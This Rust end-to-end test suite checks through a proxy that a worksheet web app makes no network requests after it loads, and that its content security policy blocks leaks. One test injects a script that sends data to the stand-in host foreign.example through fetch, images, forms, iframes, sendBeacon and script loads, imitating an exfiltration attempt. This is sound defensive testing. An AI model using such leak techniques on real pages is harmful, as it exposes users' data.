//! Nothing is asked of anybody once the page has loaded, whatever a reader does: a proxy sees every request that
//! the browser makes, to whichever host.

use std::time::Duration;

use e2e::seed::{ONE_LEADS, breach, check, day, kept, work};
use e2e::sheet::{part_texts, text_fields};
use e2e::texts::{pack, say};
use e2e::{By, Page, Proxy, Result, eventually};
use serde_json::json;
use trust_check::model::breach::Size;
use trust_check::model::check::Check;
use trust_check::model::context::Perspective;
use trust_check::model::str_enum::StrEnum;
use trust_check::model::worksheet::Part;
use trust_check::pack::MessageKey;
use trust_check::store::backup::{serialize_all, write};

/// A host that does not exist: such names are reserved for examples.
const FOREIGN: &str = "http://foreign.example/";

/// The hosts that browsers contact on their own, even with no page open: their
/// makers'. No setting prevents all of it. Requests of the page itself are also
/// in its own list of loaded resources, and none of these ever is.
const MAKERS: [&str; 8] = [
    "google.com",
    "googleapis.com",
    "gvt1.com",
    "gstatic.com",
    "mozilla.com",
    "mozilla.net",
    "mozilla.org",
    "firefox.com",
];

/// Whether a browser asks its maker for something, in secret from the page.
fn is_of_browser(line: &str) -> bool {
    let host = line
        .strip_prefix("CONNECT ")
        .and_then(|line| line.strip_suffix(":443"));
    host.is_some_and(|host| MAKERS.iter().any(|maker| host.ends_with(maker)))
}

/// The requests through the proxy, except those for the icon, which browsers
/// make whenever they like.
fn asked(proxy: &Proxy) -> Vec<String> {
    let mut asked = proxy.asked();
    asked.retain(|line| !line.ends_with("/icon.svg") && !is_of_browser(line));
    asked
}

/// How long whatever was begun may take to be asked for.
const LATE: Duration = Duration::from_millis(500);

/// From the opening into the worksheet and through all of it.
async fn through_the_worksheet(page: &Page) -> Result {
    page.press_button(MessageKey::SheetOpen).await?;
    page.at(&pack().worksheet.intro.title).await?;
    for part in Part::all() {
        page.to_part(part).await?;
        if let Some(field) = text_fields(part, Perspective::Both).first() {
            page.put(&field.ask, "written in the test").await?;
        }
        page.at(&part_texts(part).title).await?;
        page.back_to_sheet().await?;
    }
    page.press_button(MessageKey::Notes).await?;
    page.press_button(MessageKey::NoteAdd).await?;
    page.wait_to_write().await?;
    page.back_to_sheet().await?;
    page.to_part(Part::Change).await?;
    page.click("button", say(MessageKey::CommitmentChange))
        .await?;
    page.saved_by(async |page: &Page| page.press_button(MessageKey::ReminderNeutral).await)
        .await?;
    page.back_to_sheet().await
}

/// Exporting and importing files, printing, and choosing where data is saved.
async fn along(page: &Page, backup: &str) -> Result {
    page.press_button(MessageKey::Take).await?;
    page.saved_by(async |page: &Page| page.press_button(MessageKey::TakeMarkdown).await)
        .await?;
    page.saved_by(async |page: &Page| page.press_button(MessageKey::BackupSave).await)
        .await?;
    page.script("window.print = () => {}", vec![]).await?;
    page.press_button(MessageKey::PaperFilled).await?;
    page.press_button(MessageKey::Print).await?;
    page.press_button(MessageKey::PaperBack).await?;
    page.give_file("backup.json", backup.as_bytes()).await?;
    page.press_button(MessageKey::RestoreMerge).await?;
    page.wait_for_text(say(MessageKey::NoticeTakenIn)).await?;
    page.click("radio", say(MessageKey::KeepVisit)).await?;
    page.answer_dialog(MessageKey::ConfirmVisitYes).await?;
    page.wait_until("nothing is saved", "return localStorage.length === 0")
        .await?;
    page.click("radio", say(MessageKey::KeepHere)).await?;
    page.wait_until("it is saved again", "return localStorage.length > 0")
        .await?;
    page.press_button(MessageKey::DeleteAll).await?;
    page.answer_dialog(MessageKey::ConfirmDeleteAllYes).await?;
    page.wait_for_text(say(MessageKey::NoticeDeleted)).await
}

e2e::scenarios! {
    through a proxy;

    /// Loading asks for the page's own files; then a check, the history, every part of the worksheet, notes, files
    /// out and in, paper, keeping and erasing ask for nothing, neither here nor elsewhere.
    #[engines(all)]
    async fn no_request_after_loading(page: &Page) -> Result {
        let proxy = page.proxy();
        let written = work(Perspective::Both);
        page.seed(&e2e::seed::kept_work(&written)).await?;
        page.seed(&[kept(&check("first", day(0), ONE_LEADS))]).await?;
        proxy.forget();
        page.open_app().await?;
        page.wait_that_nothing_happens_for(LATE).await;
        let loading = asked(proxy);
        let own = page.server().origin();
        assert!(loading.len() >= 9, "the browser doesn't ask through the proxy: {loading:?}");
        for line in &loading {
            assert!(line.starts_with(&format!("GET {own}/")), "{line}");
        }
        let loaded = page.loaded().await?;
        assert!(loaded.iter().all(|address| address.starts_with(&own)), "{loaded:?}");
        proxy.forget();
        page.server().forget_requests();

        let plan = Check { breaches: vec![breach(Size::Big)], ..check("plan", day(0), ONE_LEADS) };
        page.take(&plan, By::Mouse).await?;
        page.to_history().await?;
        page.press_button(MessageKey::Home).await?;
        through_the_worksheet(page).await?;
        let backup = write(&serialize_all(&[check("other", day(9), ONE_LEADS)], &written), day(9));
        along(page, &backup).await?;
        page.wait_that_nothing_happens_for(LATE).await;
        assert_eq!(asked(proxy), Vec::<String>::new());
        assert_eq!(page.asked_for(), Vec::<String>::new());
        assert_eq!(page.loaded().await?, loaded);
        Ok(())
    }

    /// The method of the test above does detect a request to a non-existent
    /// host, from a page without a policy.
    #[engines(all)]
    async fn a_request_is_seen(page: &Page) -> Result {
        let proxy = page.proxy();
        page.server().drop_policy();
        page.open("").await?;
        page.started().await?;
        proxy.forget();
        let body = "fetch(arguments[0], { mode: 'no-cors' }).catch(() => {})";
        page.script(body, vec![json!(FOREIGN)]).await?;
        eventually(async || {
            let asked = proxy.asked();
            let seen = asked.iter().any(|line| line.contains("foreign.example"));
            if seen { Ok(()) } else { Err(format!("not seen: {asked:?}").into()) }
        })
        .await
    }

    /// The pages' own policy prevents scripts from contacting other hosts, from
    /// sending a form, and from showing a picture that would leak data.
    #[engines(all)]
    async fn the_policy_lets_nothing_out(page: &Page) -> Result {
        let proxy = page.proxy();
        for path in ["", "frame.html"] {
            page.open(path).await?;
            page.started().await?;
            proxy.forget();
            // From a file of the page's own, as a script that was injected would be.
            let body = "window.e2eRefused = [];
                addEventListener('securitypolicyviolation', ({ effectiveDirective }) => e2eRefused.push(effectiveDirective));
                const where = arguments[0];
                fetch(where).catch(() => {});
                const picture = new Image();
                picture.src = where + 'picture.png';
                const form = document.createElement('form');
                Object.assign(form, { action: where, method: 'post' });
                const frame = document.createElement('iframe');
                frame.src = where;
                document.body.append(form, frame);
                // Firefox throws.
                try { form.submit(); } catch {}
                navigator.sendBeacon(where, 'told');
                const link = document.createElement('link');
                Object.assign(link, { rel: 'stylesheet', href: where + 'style.css' });
                const script = document.createElement('script');
                script.src = where + 'script.js';
                document.head.append(link, script)";
            page.script(body, vec![json!(FOREIGN)]).await?;
            for directive in ["connect-src", "img-src", "form-action", "frame-src", "style-src-elem", "script-src-elem"] {
                let refused = format!("return e2eRefused.includes('{directive}')");
                page.wait_until(&format!("{path}: {directive} is refused"), &refused).await?;
            }
            page.wait_that_nothing_happens_for(LATE).await;
            let asked = proxy.asked();
            assert!(!asked.iter().any(|line| line.contains("foreign")), "{path}: {asked:?}");
        }
        page.server().forget_reports();
        Ok(())
    }
}
